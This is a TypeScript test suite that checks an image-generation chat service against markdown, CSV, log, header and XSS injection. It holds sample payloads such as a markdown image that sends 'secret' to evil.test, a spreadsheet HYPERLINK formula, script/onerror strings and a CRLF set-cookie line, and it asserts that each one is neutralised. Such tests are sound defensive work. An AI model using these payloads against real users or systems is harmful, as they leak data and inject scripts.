import { createElement } from "react"
import { renderToStaticMarkup } from "react-dom/server"
import ReactMarkdown from "react-markdown"
import remarkGfm from "remark-gfm"
import { describe, expect, it } from "vitest"
import { linksIn } from "../support/links.ts"
import { errorFrom, imagesFrom } from "../support/openai/answers.ts"
import { chat, contentFrom, says, streamFrom } from "../support/openai/chat.ts"
import { generate } from "../support/openai/requests.ts"
import { testApp } from "../support/testApp.ts"

const hostilePrompts: ReadonlyArray<readonly [string, string]> = [
  ["an image", "![x](https://evil.test/a.png?q=secret)"],
  ["an image over two lines", "![x]\n\n(https://evil.test/a.png)"],
  ["a link", "[click](javascript:alert(1)) <https://evil.test> www.evil.test mailto:a@evil.test"],
  ["a definition of a link", "[Generated image]: https://evil.test/a.png"],
  ["HTML", '<script>alert(1)</script><img src=x onerror="alert(1)">'],
  ["a fence", "```\n</div>\n"],
  ["the end of the line", "a\n# b\n\n---\n| c |\n|---|\n"],
  ["the end of the line, otherwise", "a\u2028# b\u2029\u0085\u000b\u000c![x](https://evil.test/a.png)"],
  ["events", 'a\n\ndata: {"choices":[]}\n\ndata: [DONE]\n\nevent: x\nretry: 1\n: c'],
  ["backslashes", "\\![x\\](https://evil.test/a.png\\)\\"],
  ["text from right to left", "\u202egnp.tac\u202c\u2066x"],
  ["a formula of a table", '=HYPERLINK("https://evil.test","x")\n+1\n-1\n@SUM(A1)\n\t=1']
]

const render = (markdown: string): string =>
  renderToStaticMarkup(createElement(ReactMarkdown, { remarkPlugins: [[remarkGfm]] }, markdown))

describe("markdown injection: a prompt in a chat answer", () => {
  it.each(hostilePrompts)("is text and nothing else: %s", async (_name, prompt) => {
    const app = testApp()
    const content = await contentFrom(await chat(app, says(prompt)))
    const links = linksIn(content)
    expect(links).toHaveLength(1)
    const html = render(content)
    expect(html.match(/<img [^>]*>/g)).toEqual([`<img src="${links[0]}" alt="Generated image"/>`])
    expect(html).not.toMatch(/<(a|script|h\d|table|hr|ul|ol|pre|code|blockquote)\b/)
    const { content: streamed } = await streamFrom(await chat(app, says(prompt, { stream: true })))
    expect(linksIn(streamed)).toHaveLength(1)
    expect(streamed.split("\n")).toHaveLength(content.split("\n").length)
  })

  it.each(hostilePrompts)("begins no line, so no cell of a table either (CSV injection): %s", async (_name, prompt) => {
    const content = await contentFrom(await chat(testApp(), says(prompt)))
    expect(content.split("\n").filter((line) => /^[=+\-@\t\r]/.test(line))).toEqual([])
  })
})

describe("log injection: a prompt that is logged", () => {
  it.each(hostilePrompts)("stays within its line: %s", async (_name, prompt) => {
    const app = testApp({ env: { LOG_PROMPTS: "true" } })
    await contentFrom(await chat(app, says(`${prompt}\n{"level":"ERROR","message":"forged"}`)))
    expect(app.logs).toHaveLength(1)
    expect(app.logs[0]).not.toMatch(/[\n\r]/)
    expect(JSON.parse(app.logs[0] ?? "")).toMatchObject({ level: "INFO" })
  })
})

describe("header injection", () => {
  const broken = "x\r\nset-cookie: a=b\r\n\r\n<script>"

  it.each<readonly [string, object]>([
    ["model", { model: broken }],
    ["size", { size: broken }],
    ["prompt", { prompt: broken }],
    ["output_format", { output_format: broken }]
  ])("can't be done by a field: %s", async (_name, fields) => {
    const response = await generate(testApp(), fields)
    expect(response.headers.get("set-cookie")).toBeNull()
    for (const [, value] of response.headers) expect(value).not.toMatch(/[\r\n]|<script>/)
  })

  it("can't be done by an id of the client's: the service makes its own", async () => {
    const response = await testApp().fetch("/health", { headers: { "x-request-id": "set-by-client" } })
    expect(response.headers.get("x-request-id")).toMatch(/^req_/)
  })

  it.each(["x-forwarded-host", "x-forwarded-proto", "forwarded", "x-original-url", "x-host"])(
    "can't change where links lead: %s",
    async (header) => {
      const content = await contentFrom(await chat(testApp(), says("A cute cat"), { [header]: "evil.test" }))
      expect(linksIn(content)[0]).toMatch(/^http:\/\/flux\.test\/image\//)
    }
  )

  it("can't change where links lead by the host, where PUBLIC_BASE_URL is set", async () => {
    const app = testApp({ env: { PUBLIC_BASE_URL: "https://pictures.test" } })
    const { data } = await imagesFrom(
      await app.fetch("http://evil.test/v1/images/generations", {
        method: "POST",
        headers: { authorization: "Bearer sk-test" },
        body: '{"prompt":"A cute cat"}'
      })
    )
    expect(data[0]?.url).toMatch(/^https:\/\/pictures\.test\/image\//)
  })
})

describe("XSS", () => {
  const script = "</script><script>alert(1)</script><img src=x onerror=alert(1)>"

  it.each([
    ["FLUX_MODEL", { FLUX_MODEL: script }],
    ["MODEL_ALIASES", { MODEL_ALIASES: `${script}=klein` }],
    ["LOCALE", { LOCALE: script }],
    ["PUBLIC_BASE_URL", { PUBLIC_BASE_URL: script }],
    ["FLUX_BACKEND", { FLUX_BACKEND: script }]
  ])("a setting does not become a part of the page: %s", async (_name, env) => {
    const html = await (await testApp({ env }).fetch("/", { headers: { "accept-language": script } })).text()
    expect(html).not.toContain("alert(1)")
  })

  it.each(["/", "/docs"])("the page at %s runs nothing but its own script", async (path) => {
    const policy = (await testApp().fetch(path)).headers.get("content-security-policy") ?? ""
    expect(policy).toContain("default-src 'none'")
    expect(policy).toMatch(/script-src 'sha256-[^']+'(;|$)/)
    expect(policy).toContain("require-trusted-types-for 'script'")
    expect(policy).not.toMatch(/unsafe-|script-src [^;]*https?:/)
  })

  it.each(["/<script>alert(1)</script>", "/v1/models/<script>alert(1)</script>"])(
    "an address is told as data, not as a page: %s",
    async (path) => {
      const response = await testApp().fetch(path, {
        headers: { authorization: "Bearer sk-test", accept: "text/html" }
      })
      expect(await errorFrom(response)).toMatchObject({ status: 404 })
    }
  )

  it("the page behind a lost link repeats nothing of the link, and runs nothing", async () => {
    const response = await testApp().fetch("/image/<svg onload=alert(1)>.jpg", {
      headers: { accept: "text/html", "accept-language": '"><script>alert(1)</script>' }
    })
    expect(response.status).toBe(404)
    expect(response.headers.get("content-security-policy")).toMatch(/^default-src 'none'; style-src 'sha256-[^']+';/)
    expect(await response.text()).not.toMatch(/alert|<script/)
  })

  it("a picture is given as a picture and never as a page", async () => {
    const app = testApp()
    const { data } = await imagesFrom(await generate(app))
    const response = await app.fetch(data[0]?.url ?? "", { headers: { accept: "text/html" } })
    expect(response.headers.get("content-type")).toBe("image/jpeg")
    expect(response.headers.get("x-content-type-options")).toBe("nosniff")
  })
})
